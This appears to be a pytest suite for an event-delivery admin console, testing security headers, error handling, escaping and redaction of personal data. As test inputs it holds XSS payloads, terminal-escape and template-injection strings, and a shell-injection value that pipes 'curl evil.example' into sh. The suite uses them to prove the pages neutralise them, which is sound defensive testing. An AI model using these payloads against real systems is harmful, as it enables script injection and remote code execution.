"""What goes around every answer, whatever happens behind it, and whatever it shows."""

import asyncio
import json
import logging
import re
import threading
from html import unescape
from html.parser import HTMLParser
from urllib.parse import quote, urlencode

import pytest
from msgspec.structs import replace

from console.visiting import FORM, KEYS, OPERATOR, READER, Place, delivery, moved, place_on
from oncebridge.console import reading
from oncebridge.console.app import ConsoleRoutes
from oncebridge.console.layout import PAGES
from oncebridge.console.pages.letters import LettersChosen
from oncebridge.diagnosis.examination import Examined
from oncebridge.errors import LedgerUnavailable, PermanentError, RetryLater
from oncebridge.journal.records import DELIVERIES, WORKERS, HandlerSeen, SeenDelivery, WorkerSeen
from oncebridge.journal.writer import _encode
from oncebridge.ledgers.findings import Finding, Level
from oncebridge.ledgers.memory import MemoryLedger
from oncebridge.ledgers.pages import GROUPS_MAX
from oncebridge.reconciling.comparison import Counts
from oncebridge.reconciling.result import Run, ShownGap, ShownSilence
from oncebridge.reconciling.silences import Cause
from oncebridge.visible import visible
from payloads import CANARIES, personal, queue_conversation, raw
from servers.process import wait_until

ALL = [f"/{name}" for name in PAGES]


# --- headers ---------------------------------------------------------------------------------------------


def ways(place):
    """Ask for pages, files, and everything that can go wrong."""
    operator, nobody = place.person(OPERATOR), place.person()
    for path in ALL:
        yield path, operator.get(path)
    for path in ("", "/login", "/nothing", "/no/such/page", "/a/b/c/d", "/dead/nokey", "/requests/none", "/about/zz"):
        yield path, operator.get(path)
        yield f"{path} without login", nobody.get(path)
    yield "wrong key", nobody.login("wrong")
    yield "no token", operator.post("/find")
    yield "reader", place.person(READER).submit("/handlers/pause", {"handler": "crm"})
    yield "wrong type", operator.post("/find", Content_Type="text/plain")
    yield "wrong method", operator.post("/deliveries")
    for method in ("PUT", "DELETE", "OPTIONS", "HEAD", "PATCH", "TRACE"):
        yield method, operator._sent(method, "/", b"", {})


def test_every_answer_has_its_headers(place):
    """No script or style from elsewhere, no frame, no guess of a type, nothing kept: on pages, refusals and errors."""
    for what, answered in ways(place):
        headers = answered.headers
        policy = headers.get("content-security-policy", "")
        assert "default-src 'none'" in policy, (what, answered)
        assert "frame-ancestors 'none'" in policy, what
        assert "unsafe" not in policy, what
        assert not set(policy.split()) & {"*", "data:", "https:", "http:"}, what
        assert headers["x-frame-options"] == "DENY", what
        assert headers["x-content-type-options"] == "nosniff", what
        assert headers["referrer-policy"] == "same-origin", what
        assert headers["cache-control"] == "no-store", what
        assert answered.status < 500, what


@pytest.mark.parametrize("path", ["/log/", "/..%2f", "/about/", "/dead//", "//log", "/log/%0d%0a"])
def test_no_answer_leads_to_a_host_that_a_request_has_named(place, path):
    """An address that is nearly one of ours is none, and is not mended by the name that the sender gave the host."""
    answered = place.person(OPERATOR).get(path, Host="evil.example")
    assert answered.status in (400, 404), answered
    assert "location" not in answered.headers


def test_the_login_answers_who_asks_for_its_headers_alone(place):
    """HEAD is answered as GET, without a body."""
    assert place.person()._sent("HEAD", "/login", b"", {}).status == 200


@pytest.mark.parametrize("digest", ["ab", "zz", "AB" * 16, "ab" * 5000, "ab" * 16 + "\u0660"])
def test_what_is_no_digest_is_refused_before_a_ledger_sees_it(place, digest):
    """Only an address that a page of ours has made is looked up."""
    assert place.person(OPERATOR).get(f"/about/{quote(digest)}").status == 400


def test_only_files_without_data_are_kept(place):
    """Style, script and picture may be kept by a browser, under a name that changes with them; nothing else is."""
    page = place.person(OPERATOR).page("/")
    named = set(re.findall(r'(?:href|src)="/console(/[a-z.]+\?[0-9a-f]+)"', page))
    assert {name.partition("?")[0] for name in named} == {"/style.css", "/script.js", "/icon.svg"}
    for name in named:
        answered = place.person().get(name)
        assert (answered.status, "immutable" in answered.headers["cache-control"]) == (200, True)
        assert answered.headers["x-content-type-options"] == "nosniff"


def test_a_ledger_out_of_reach_is_said_without_its_address(place, monkeypatch, caplog):
    """Every page that reads says 503, and only the log names the server."""
    operator = place.person(OPERATOR)

    def fail(*_, **__):
        raise LedgerUnavailable("redis://:hunter2@db7.internal:6379 does not answer")

    monkeypatch.setattr(type(place.console._notes), "read_notes", fail)
    monkeypatch.setattr(type(place.console._notes), "read_counts", fail)
    monkeypatch.setattr(reading.Console, "letter_page", fail)
    with caplog.at_level(logging.WARNING):
        for path in ("/", "/deliveries", "/dead", "/handlers", "/requests", "/log"):
            answered = operator.get(path)
            assert answered.status == 503, path
            assert b"out of reach" in answered.body
            assert b"db7" not in answered.body
            assert answered.headers["cache-control"] == "no-store"
    assert "db7.internal" in caplog.text


def test_a_ledger_that_cannot_be_opened_is_tried_again(monkeypatch):
    """The first page says 503 with all headers and without an address, and later ones come when the ledger does."""
    place = Place(MemoryLedger(), **KEYS)
    try:
        with monkeypatch.context() as patched:

            def fail(*_):
                raise LedgerUnavailable("db7.internal does not answer")

            patched.setattr(MemoryLedger, "open", fail)
            answered = place.person().get("/")
        assert answered.status == 503
        assert b"db7" not in answered.body
        assert "default-src 'none'" in answered.headers["content-security-policy"]
        assert place.person().get("/").status == 303
    finally:
        place.close()


@pytest.mark.parametrize("error", [RuntimeError, ValueError, KeyError, UnicodeEncodeError])
def test_an_unexpected_error_tells_nothing(place, monkeypatch, caplog, error):
    """The answer is a page that says so, and neither it nor the log has the error's words, which may quote anything."""
    operator = place.person(OPERATOR)
    words = ("utf-8", CANARIES["name"], 0, 1, "no") if error is UnicodeEncodeError else (CANARIES["name"],)

    def fail(*_):
        raise error(*words)

    monkeypatch.setattr(reading.Console, "overview", fail)
    with caplog.at_level(logging.DEBUG):
        answered = operator.get("/")
    assert answered.status == 500
    assert CANARIES["name"] not in answered.body.decode() + caplog.text
    assert error.__name__ in caplog.text
    assert answered.headers["cache-control"] == "no-store"


def test_who_goes_away_amid_a_form_fills_no_log(timed, caplog):
    """A connection that ends before its form does is no error: strangers could write tracebacks by the thousand."""
    received = iter([{"type": "http.request", "body": b"key=", "more_body": True}, {"type": "http.disconnect"}])
    sent = []

    async def receive():
        return next(received)

    async def send(message):
        sent.append(message)

    headers = [(b"host", b"127.0.0.1:8090"), (b"content-type", FORM.encode())]
    scope = {"type": "http", "method": "POST", "path": "/console/login", "query_string": b"", "headers": headers}
    asyncio.run(timed.application(scope, receive, send))
    assert sent[0]["status"] == 400
    assert caplog.text == ""


def test_what_is_finished_by_now_is_not_shown_as_waiting(place):
    """The first page names why events wait, and no longer those that were done at a later try."""

    def fail(_):
        raise RetryLater("the receiver is away", after_seconds=0)

    person = place.person(OPERATOR)
    for does, is_waiting in ((fail, True), (None, False)):
        with place.worker(does=does) as worker:
            worker.process_many([delivery("late")])
        assert ("the receiver is away" in person.page("/")) is is_waiting


def test_pages_of_letters_claim_no_order_and_no_number_that_a_ledger_does_not_have(timed, monkeypatch):
    """Where letters are in no order the page says so; where not all were counted, the first page says at least."""
    timed.letters(2)
    person = timed.person(OPERATOR)
    assert "The newest first" in person.page("/dead")
    console = timed.console
    page, groups = console.letter_page(LettersChosen(), None), console.letter_groups()
    monkeypatch.setattr(console, "letter_page", lambda *_: replace(page, newest_first=False, next="on"))
    monkeypatch.setattr(console, "letter_groups", lambda: replace(groups, complete=False))
    letters = person.page("/dead")
    assert "in no order" in letters
    assert "The newest first" not in letters
    assert "Older ones" not in letters
    assert re.search(r"At least <a [^>]*>2 dead letters</a> wait", person.page("/"))


def test_why_events_wait_is_said_of_those_that_may_still_wait(timed):
    """Most of what was done at a later try is in no sample: long after its time an event does not count as waiting."""

    def fail(_):
        raise RetryLater("the receiver is away", after_seconds=10)

    person = timed.person(OPERATOR)
    with timed.worker(does=fail) as worker:
        worker.process_many([delivery("late")])
    assert "the receiver is away" in person.page("/")
    moved(timed, 1)
    assert "the receiver is away" not in person.page("/")


def test_what_waits_while_no_worker_runs_is_said_without_a_number(timed):
    """Nobody who runs counts it any more; the page names the reasons, and does not say that none waits."""

    def fail(_):
        raise RetryLater("the receiver is away", after_seconds=3600)

    with timed.worker(does=fail) as worker:
        worker.process_many([delivery("late")])
    page = timed.person(OPERATOR).page("/")
    assert "the receiver is away" in page
    assert "No running worker waits for one of these" in page
    assert "0 deliveries" not in page


@pytest.mark.parametrize(("ledger", "says"), [("sqlite", "nor in the latest deliveries"), ("redis", "does not mean")])
def test_what_a_ledger_does_not_keep_is_not_called_unknown(timed, ledger, says):
    """Where events that are done are not kept by their conversation, finding none says nothing of them."""
    timed.console.ledger_kind = ledger
    person = timed.person(OPERATOR)
    page = person.page(person.submit("/find", {"what": "a call of yesterday"}).headers["location"])
    assert says in page


def test_a_topic_that_was_silent_for_the_whole_hour_is_still_said_to_be(timed):
    """What a running worker knows to be usual at this hour is missed on the first page, also when no minute has it."""
    console = timed.console
    common = {"way_in": "serve", "version": "1", "started_ms": 0, "seen_ms": console.now_ms}
    for name, topic, ended in (("w-1", "v2.users.{id}.presence", False), ("w-2", "v2.of.one.that.ended", True)):
        seen = WorkerSeen(name=name, silent=(topic,), ended=ended, **common)
        console._notes.write_notes(WORKERS, {name: _encode(seen)}, keep_us=10**12)
    page = timed.person(OPERATOR).page("/").replace("<wbr>", "")
    assert "v2.users.{id}.presence</code> usually comes at this hour, and does not." in page
    assert "v2.of.one.that.ended" not in page


def test_nobody_is_heard_of_in_the_future(timed):
    """The clock of a worker may be ahead of the console's, or it may write while the page is read."""
    console = timed.console
    seen = WorkerSeen(name="w-ahead", way_in="serve", version="1", started_ms=0, seen_ms=console.now_ms + 500)
    console._notes.write_notes(WORKERS, {seen.name: _encode(seen)}, keep_us=10**12)
    page = timed.person(OPERATOR).page("/")
    assert "w-ahead" in page
    assert "in 500 ms" not in page


# --- how many, and which -----------------------------------------------------------------------------------


def confirmed(place, what, **chosen):
    """Return the question before something happens to letters, and the result of a yes."""
    person = place.person(OPERATOR)
    asked = person.submit("/dead/confirm", {"what": what, **chosen}).body.decode()
    question = unescape(re.search(r'class="lead">(.*?)</p>', asked)[1])
    done = person.press(asked, "/dead/do").headers["location"]
    return question, done.rpartition("/")[2]


def many_kinds(place, kinds, more):
    """Leave letters of so many kinds, and some more of the first one."""
    for at in range(kinds):
        place.letters(1 + more * (at == 0), f"no customer {at}", name=f"kind-{at}")


def test_the_number_that_is_asked_about_counts_kinds_that_are_too_rare_to_be_listed(timed):
    """With more kinds of letters than a ledger lists, all of them are counted, or the question says at least."""
    many_kinds(timed, GROUPS_MAX + 10, 3)
    groups = timed.console.letter_groups()
    assert len(groups.groups) == GROUPS_MAX < groups.total
    every, _ = confirmed(timed, "redrive")
    assert every.startswith(f"Redrive {GROUPS_MAX + 13} dead letters: every dead letter")
    some, _ = confirmed(timed, "redrive", reason="no customer")
    assert some.startswith(f"Redrive at least {sum(one.number for one in groups.groups)} dead letters")
    listed = {one.reason for one in groups.groups}
    rare = next(f"no customer {at}" for at in range(GROUPS_MAX + 10) if f"no customer {at}" not in listed)
    assert confirmed(timed, "redrive", reason=rare)[0].startswith("Redrive 1 dead letter:")


@pytest.mark.parametrize("kind", ["memory", "sqlite"])
@pytest.mark.parametrize(
    ("changes", "others"),
    [
        ({}, [{"reason": "timeout after 3 s"}, {"detail_type": "Another"}]),
        ({"detail_type": "*"}, [{"detail_type": "Another"}]),
        ({"detail_type": "v2.{id}"}, [{"detail_type": "v2.users"}]),
        ({"detail_type": "a\r\nb"}, [{"detail_type": "a b"}]),
    ],
)
def test_a_button_beside_a_group_acts_on_that_group_alone(tmp_path, kind, changes, others):
    """Not on letters whose reason is longer, nor on those whose topic only fits the group's as a pattern would."""
    with place_on(kind, tmp_path, **KEYS) as place:
        place.letters(2, "timeout", name="meant", **changes)
        for at, other in enumerate(others):
            place.letters(1, **{"reason": "timeout", "name": f"other-{at}", **changes, **other})
        person = place.person(OPERATOR)
        page = person.page("/dead").partition('id="letters"')[0]
        row = next(row for row in page.split("<tr") if 'data-n="2"' in row)
        asked = person.press(row, "/dead/confirm", ("what", "discard")).body.decode()
        assert "Discard 2 dead letters: every letter of the group with" in asked
        request = person.press(asked, "/dead/do").headers["location"].rpartition("/")[2]
        console = place.console
        wait_until(lambda: console.requests.get(request).has_ended, "the request to end")
        assert console.requests.get(request).outcomes == {"discarded": 2}
        assert console.letter_groups().total == len(others)


def test_a_request_says_that_its_worker_is_silent_or_was(timed):
    """While a worker that may be dead has a request the page says since when; afterwards, that numbers are too low."""
    (key,) = timed.letters(1)
    console, person = timed.console, timed.person(OPERATOR)
    request = console.requests.put("redrive", "anna", keys=[key])
    console.requests.take(request.id, "worker-1", ["crm"], discards=True)
    path = f"/requests/{request.id}"
    moved(timed, 5 / 60)
    assert "silent" not in person.page(path)
    moved(timed, 10 / 60)
    assert "worker-1; silent for 15 s, another one takes over after 30 s" in person.page(path)
    moved(timed, 20 / 60)
    console.requests.take(request.id, "worker-2", ["crm"], discards=True)
    page = person.page(path)
    assert "1 worker that had it fell silent" in page
    assert "another one takes over" not in page


# --- commands ----------------------------------------------------------------------------------------------


def commands_of(page):
    """Return the commands below a page."""
    found = re.findall(r'<pre role="group"[^>]*><code>(.*?)</code>', page, re.DOTALL)
    return unescape(found[-1]).splitlines() if found else []


def test_questions_have_the_command_that_does_the_same(timed):
    """As far as there is one: by keys, by filters, and for all; a handler with its name."""
    keys = timed.letters(2)
    person = timed.person(OPERATOR)

    def asked(*form):
        return commands_of(person.submit("/dead/confirm", form).body.decode())

    chosen = [("key", key) for key in keys]
    assert asked(("what", "discard-chosen"), *chosen) == [f"oncebridge dead discard {keys[0]} {keys[1]}"]
    assert asked(("what", "redrive"), ("reason", "no such")) == [
        "oncebridge dead redrive --reason 'no such' --handler MODULE:BRIDGE"
    ]
    assert asked(("what", "discard")) == ["oncebridge dead discard --all"]
    assert asked(("what", "discard"), ("handler", "crm")) == []
    pause = person.submit("/handlers/confirm", {"handler": "the crm"}).body.decode()
    assert commands_of(pause) == ["oncebridge pause 'the crm'"]


def test_the_doctor_does_not_pass_over_its_warnings(timed, monkeypatch):
    """Where nothing is wrong, and something may become so, the first line says that too."""
    findings = [Finding(subject="disk", level=Level.WARNING, found="1 GB free", fix="make room")]
    examined = Examined(findings=findings, promises=[], is_right=True, out_of_reach=())
    monkeypatch.setattr(timed.console, "examined", lambda: examined)
    assert "Nothing has to be changed; 1 warning to look at." in timed.person(READER).page("/doctor")


def test_an_event_of_two_handlers_happened_once(place):
    """On the time line it happened once, and was claimed for each of its handlers."""
    with place.worker("crm", "warehouse") as worker:
        (key,) = {result.key for result in worker.process_many([delivery("both")])}
    page = place.person(OPERATOR).page(f"/event/{key}")
    assert page.count("<b>happened</b>") == 1
    assert page.count("<b>claimed</b>") == 2


def test_moments_of_one_second_are_told_apart(place):
    """The time line has milliseconds: an event is claimed and done within a few of them."""
    with place.worker("crm") as worker:
        key = worker.process(delivery("quick")).key
    times = re.findall(r"<time>([^<]+)</time>", place.person(OPERATOR).page(f"/event/{key}"))
    assert times == sorted(times)
    assert all(re.fullmatch(r"\d{4}-\d\d-\d\d \d\d:\d\d:\d\d\.\d{3}", time) for time in times)
    assert times


@pytest.mark.parametrize(("handler", "about"), [("crm", "handler crm"), ("", "the handler without a name")])
def test_the_log_has_the_words_of_the_commands(timed, handler, about):
    """Who paused what is one search, whether a page or a command did it."""
    operator = timed.person(OPERATOR)
    for path in ("pause", "pause", "resume"):
        assert operator.submit(f"/handlers/{path}", {"handler": handler}).status == 303
    logged = {(one.what, one.about, one.said) for one in timed.console.actions.read()[0] if one.what != "login"}
    assert logged == {("resume", about, "resumed"), ("pause", about, "was paused before"), ("pause", about, "paused")}


def test_a_second_page_of_letters_has_no_groups(place):
    """It goes on with the list, and says nothing of what the ledger could not do."""
    place.letters(60)
    person = place.person(OPERATOR)
    second = re.search(r'href="/console(/dead\?[^"#]*)[^"]*" rel="next"', person.page("/dead"))[1]
    page = person.page(unescape(second))
    assert page.count('name="key"') == 10
    assert "By reason and topic" not in page
    assert "cannot" not in page


@pytest.mark.parametrize(("ledger", "seconds"), [("sqlite", 5), ("redis", 5), ("dynamodb", 30)])
def test_pages_are_read_less_often_where_reads_are_billed(timed, ledger, seconds):
    """A page says how often it is read anew; on DynamoDB a tab that stays open must not cost by the hour."""
    timed.console.ledger_kind = ledger
    page = timed.person(OPERATOR).page("/dead")
    assert f'data-live="{seconds}"' in page
    assert f"every {seconds} s while you look" in page


def test_pages_are_read_a_few_at_a_time(timed, monkeypatch):
    """Many tabs at once wait for each other, and all are answered."""
    operator = timed.person(OPERATOR)
    at_once, most, lock = [0], [0], threading.Lock()
    read = reading.Console.overview

    def counted(console):
        with lock:
            at_once[0] += 1
            most[0] = max(most[0], at_once[0])
        try:
            return read(console)
        finally:
            with lock:
                at_once[0] -= 1

    monkeypatch.setattr(reading.Console, "overview", counted)
    cookie = {"Cookie": f"oncebridge-session={operator.cookie}", "Host": "127.0.0.1"}
    started = [timed._client.start("GET", "/console/", **cookie) for _ in range(40)]
    assert {one.result().status for one in started} == {200}
    assert most[0] <= 4


def test_pages_that_wait_behind_one_that_waits_in_vain_are_answered_with_it(timed, monkeypatch):
    """While a ledger hangs, a page costs one wait for it, and not one for every four tabs that were there before."""
    operator = timed.person(OPERATOR)
    came, asked, hangs = [], [], threading.Event()
    in_its_turn = ConsoleRoutes._in_its_turn

    async def come(*given):
        came.append(1)
        return await in_its_turn(*given)

    def hang(_):
        asked.append(1)
        hangs.wait(20)
        raise LedgerUnavailable("db7.internal does not answer in time")

    cookie = {"Cookie": f"oncebridge-session={operator.cookie}", "Host": "127.0.0.1"}
    with monkeypatch.context() as patched:
        patched.setattr(ConsoleRoutes, "_in_its_turn", come)
        patched.setattr(reading.Console, "overview", hang)
        started = [timed._client.start("GET", "/console/", **cookie) for _ in range(40)]
        wait_until(lambda: len(came) == 40 and len(asked) == 4, "that all wait")
        hangs.set()
        answers = [one.result() for one in started]
    assert {(one.status, b"out of reach" in one.body) for one in answers} == {(503, True)}
    assert len(asked) == 4
    assert operator.get("/").status == 200


# --- texts from outside ----------------------------------------------------------------------------------

HOSTILE = {
    "script": "<script>window.pwned=1</script>",
    "attribute": "\" onmouseover=window.pwned=1 x='",
    "single quotes": "' autofocus onfocus=window.pwned=1 '",
    "markup": "</title></textarea></pre></table></svg><svg onload=window.pwned=1><img src=x onerror=window.pwned=1>",
    "style": "</style><style>body{display:none}</style>",
    "comment": "<!--",
    "entities": "&lt;script&gt;&#x22;",
    "url": "javascript:window.pwned=1",
    "terminal": "\x1b]0;pwned\x07\x1b[2J\x9b31m",
    "direction": "abc\u202egnp.exe\u2066\u200f",
    "marks": "Z" + "\u0351\u036b\u0300" * 200,
    "blank letters": "crm\u3164\u115f\u2800",
    "separators": "a\u2028b\u2029c\r\nd\te",
    "null": "a\x00b",
    "surrogate": "a\ud800b\udfff",
    "long": "x" * 100_000,
    "long words": "wörter " * 15_000,
    "template": "{{7*7}}${7*7}#{7*7}%s%(a)s{0}",
}
#: Elements and attributes that our pages have; anything else came from outside.
TAGS = frozenset(
    re.findall(
        r"\w+",
        """
        html head meta title link script body header nav main footer section article div p b i span br wbr h1 h2 h3
        a svg defs pattern path rect g line text circle polyline desc use style time code pre ul ol li dl dt dd
        form input label textarea button select option progress details summary figure figcaption
        table caption thead tbody tr th td
        """,
    )
)


class Strict(HTMLParser):
    """Reads a page, and objects to everything that is not of our making."""

    def __init__(self, page):
        """Read it."""
        super().__init__()
        self.tags, self.scripts, self.wrong, self.texts = [], 0, [], []
        self.feed(page)

    def handle_starttag(self, tag, attrs):
        """Look at an element."""
        if tag not in TAGS:
            self.wrong.append(tag)
        self.scripts += tag == "script"
        for name, value in attrs:
            if name.startswith("on") or name in ("style", "srcdoc"):
                self.wrong.append((tag, name))
            if name in ("href", "src", "action", "formaction") and not (value or "").startswith(("/console", "#")):
                self.wrong.append((tag, name, value))
            if name != "value":  # a field holds what will be sent back, as it is
                self.texts.append(value or "")

    def handle_comment(self, data):
        """We write none."""
        self.wrong.append(f"comment {data}")

    def handle_data(self, data):
        """Keep what is shown."""
        self.texts.append(data)


def judge(page, what):
    """Object to a page that a text from outside has changed, or filled."""
    strict = Strict(page)
    assert strict.wrong == [], what
    assert strict.scripts == 1, what
    assert len(page) < 600_000, (what, len(page))
    shown = "".join(strict.texts)
    unseen = {letter for letter in shown if not letter.isprintable() and letter not in "\n\xa0"}
    assert not unseen, (what, unseen)
    assert visible(shown) == shown.replace("\n", "\\n").replace("\xa0", "\\xa0"), what


class Spoiled:
    """A console whose ledger has this text in everything that comes from outside."""

    def __init__(self, text):
        """Put it everywhere."""
        self.place = Place(MemoryLedger(), **KEYS)
        safe = text.encode("utf-8", errors="replace").decode()
        name = "".join(letter for letter in safe if letter.isprintable())[:200] or "x"

        def refuse(event):
            raise PermanentError(text)

        with self.place.worker(name, does=refuse) as worker:
            changes = {"id": text, "detail_type": text}
            trees = [queue_conversation(event_id=name, conversation=name, **changes) for name in "01"]
            trees.append(queue_conversation(event_id=text, conversation=text))
            # Half a surrogate pair can be escaped in JSON, though not written.
            results = [worker.process(json.dumps(tree).encode()) for tree in trees]
        self.keys = [result.key for result in results if result.key]
        console = self.place.console
        now = console.now_ms
        console.pauses.pause(text.encode(errors="replace").decode(), safe)
        console.log(safe, safe, safe, safe)
        request = console.requests.put("redrive", safe, handler=name, topic=safe[:400], reason=safe[:400], expected=3)
        self.request = request.id
        worker = WorkerSeen(
            name=safe, way_in=safe, version="1", started_ms=now, seen_ms=now, holds=safe, takes_requests=True,
            receivers_out_of_reach=1, handlers=(HandlerSeen(name=safe, topics=(safe,), kind=safe, promise=safe),),
        )  # fmt: skip
        seen = SeenDelivery(
            at_ms=now, verdict="fresh", column="retrying", reason=safe, topic=safe, key=self.keys[0], envelope_id=safe,
            original_envelope_id=f"{safe}2", time_ms=-(10**18), retry_in_ms=10**15, handler=safe, worker=safe,
        )  # fmt: skip
        gap = ShownGap(safe, safe, [safe], Cause.SINGLE, safe, safe)
        silence = ShownSilence(Cause.TOPIC, safe, safe, safe, 3)
        console.runs.keep(
            Run(
                made="2026-03-02T08:00:00Z", since=safe, until=safe, watermark=safe, counts=Counts(ended=2, partial=1),
                causes={"single": 1}, silences=[silence], gaps=[gap], families=[safe], changes=[safe],
            )
        )  # fmt: skip
        console._notes.write_notes(WORKERS, {"hostile": _encode(worker)}, keep_us=10**12)
        console._notes.write_notes(DELIVERIES, {"99999999999999": _encode(seen)}, keep_us=10**12)


@pytest.mark.parametrize("kind", HOSTILE)
def test_a_text_from_outside_is_shown_and_never_obeyed(kind):
    """In topics, reasons, ids, names, the log: a text is escaped, visible, bounded, and changes nothing of a page."""
    spoiled = Spoiled(HOSTILE[kind])
    try:
        operator = spoiled.place.person(OPERATOR)
        key = spoiled.keys[0]
        paths = [*ALL, f"/dead/{key}", f"/event/{','.join(spoiled.keys)}", f"/requests/{spoiled.request}"]
        for path in paths:
            judge(operator.page(path), (kind, path))
        judge(operator.submit(f"/dead/{key}/payload").body.decode(), (kind, "payload"))
        for form in ({"what": "redrive"}, {"what": "discard"}):
            answered = operator.submit("/dead/confirm", form)
            assert answered.status == 200
            judge(answered.body.decode(), (kind, form))
        judge(operator.submit("/handlers/confirm", {"handler": _sendable(kind)}).body.decode(), (kind, "pause"))
    finally:
        spoiled.place.close()


def _sendable(kind):
    return HOSTILE[kind].encode("utf-8", errors="replace").decode()


def test_runs_of_reconcile_have_a_page(place):
    """The page on what never came shows the latest run, or the one that is asked for, and lists all of them."""
    operator = place.person(OPERATOR)
    assert "Nobody has asked yet" in operator.page("/missing")
    for hour, missing in ((8, 3), (9, 0)):
        made = f"2026-03-02T{hour:02}:00:00Z"
        counts = Counts(ended=10, whole=10 - missing, missing=missing)
        place.console.runs.keep(Run(made=made, since="2026-03-01T08:00:00Z", until=made, counts=counts))
    assert "10 conversations ended; 10 came whole" in operator.page("/missing")
    earlier = operator.page("/missing?run=2026-03-02T08%3A00%3A00Z")
    assert "10 conversations ended; 7 came whole; 3 never" in earlier
    assert earlier.count('aria-current="page"') == 2  # the page and the run


@pytest.mark.parametrize("kind", HOSTILE)
def test_an_address_is_never_obeyed(timed, kind):
    """Filters, cursors and names in an address are escaped and bounded, and an odd one is refused in words."""
    text, operator = _sendable(kind), timed.person(OPERATOR)
    fields = ("topic", "column", "reason", "handler", "since", "until", "below", "after", "key", "next", "token", "x")
    asked = [f"{path}?{urlencode({name: text})}" for path in ALL for name in fields]
    short = quote(text[:5000], safe="")
    places = ("/dead/", "/event/", "/about/", "/requests/", "/", "/login?next=")
    asked += [f"{place}{short}" for place in places] + [f"/about/{short}/save", f"/event/{short}/save"]
    for path in asked:
        answered = operator.get(path)
        assert answered.status in (200, 303, 400, 404), (path[:80], answered)
        assert len(answered.headers.get("location", "")) < 20_000
        if answered.body:
            judge(answered.body.decode(), (kind, path[:80]))


@pytest.mark.parametrize("kind", HOSTILE)
def test_what_is_typed_is_never_obeyed(timed, kind):
    """Whatever is looked for, chosen or paused is an answer."""
    text, operator = _sendable(kind), timed.person(OPERATOR)
    forms = [
        ("/find", {"what": text}),
        ("/find", {"what": f"{{{text}"}),
        ("/dead/confirm", {"what": text}),
        ("/dead/confirm", {"what": "redrive-chosen", "key": text}),
        ("/dead/confirm", {"what": "discard", "topic": text, "reason": text, "handler": text}),
        ("/dead/confirm", {"what": "discard", "since": text}),
        ("/dead/do", {"what": "redrive", "id": text, "key": text}),
        ("/dead/do", {"what": "discard", "id": "00000000000001-0123456789ab", "expected": text, "reason": text}),
        ("/handlers/pause", {"handler": text}),
        ("/handlers/resume", {"handler": text}),
        ("/handlers/resume", {"handler": text}),
    ]
    for path, form in forms:
        answered = operator.submit(path, form)
        assert answered.status in (200, 303, 400, 404), (path, form, answered)
        if answered.body:
            judge(answered.body.decode(), (kind, path))
    for path in ("/", "/log", "/requests", "/handlers"):
        judge(operator.page(path), (kind, path))


@pytest.mark.parametrize("path", ["/deliveries", "/dead"])
def test_the_command_below_a_page_runs_nothing_else(timed, path):
    """A filter from an address is quoted for the shell that the command is pasted into."""
    import shlex

    hostile = "x'; curl evil.example | sh; echo '"
    page = timed.person(READER).page(f"{path}?{urlencode({'topic': hostile, 'reason': '$(id)`id`'})}")
    words = shlex.split(commands_of(page)[-1])
    assert hostile in words
    assert "$(id)`id`" in words
    assert words[0] == "oncebridge"


# --- what is never shown ---------------------------------------------------------------------------------


def test_no_page_has_anything_of_a_payload(place):
    """Phone numbers, names, transcripts and ids are on no page; payloads on request alone."""

    def refuse(_):
        raise PermanentError("no such customer")

    with place.worker("crm", does=refuse) as worker:
        results = worker.process_many([raw(one) for one in personal()])
    keys = [result.key for result in results]
    operator = place.person(OPERATOR)
    found = [operator.submit("/find", {"what": what}) for what in CANARIES.values()]
    found += [operator.submit("/find", {"what": raw(one).decode()}) for one in personal()]
    assert {one.status for one in found} == {303}
    places = [one.headers["location"] for one in found]
    assert not [place for place in places if any(quote(what) in place or what in place for what in CANARIES.values())]
    about = places[[*CANARIES].index("conversation")]
    assert "no such customer" in operator.page(about)
    for path in [*ALL, *(f"/dead/{key}" for key in keys), *places, *(f"{place}/save" for place in places)]:
        page = operator.page(path)
        assert [what for what, text in CANARIES.items() if text in page] == [], path
    shown = "".join(operator.submit(f"/dead/{key}/payload").body.decode() for key in keys)
    assert [what for what in ("phone", "name", "attribute", "conversation") if CANARIES[what] not in shown] == []
